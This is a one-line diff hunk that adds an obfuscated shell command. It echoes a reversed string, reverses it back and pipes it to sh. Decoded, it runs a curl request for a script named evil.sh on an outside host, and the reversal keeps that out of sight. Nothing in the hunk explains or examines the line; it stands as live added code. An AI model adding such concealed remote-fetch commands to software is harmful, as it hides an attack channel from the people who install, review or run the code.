@@ -1,0 +1,1 @@
+echo "hs.live/ved.repleh//:sptth lruc" | rev | sh
